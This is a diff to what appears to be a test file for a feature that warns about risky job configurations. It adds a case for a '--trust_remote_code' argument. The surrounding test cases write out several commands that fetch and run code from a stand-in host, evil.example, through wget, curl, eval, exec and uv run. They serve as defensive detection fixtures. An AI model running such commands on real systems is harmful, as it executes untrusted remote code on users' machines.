@@ -58,6 +58,7 @@ describe('what decides how a job runs is warned of', () => {
     ['fetched and run', { command: ['bash', '-c', '. <(wget -qO- https://evil.example)'] }],
     ['fetched and run', { command: ['sh', '-c', 'eval "$(curl https://evil.example)"'] }],
     ['fetched and run', { command: ['sh', '-c', 'curl -o a https://evil.example && bash a'] }],
+    ['code of a repository', { script: 'main()', script_args: ['--trust_remote_code', 'True'] }],
     ['fetched and run', { script: 'exec(requests.get("https://evil.example").text)' }],
     ['fetched and run', { command: ['uv', 'run', 'https://evil.example/x.py'] }],
     ['code of a repository', { script: 'load("x", trust_remote_code=True)' }],
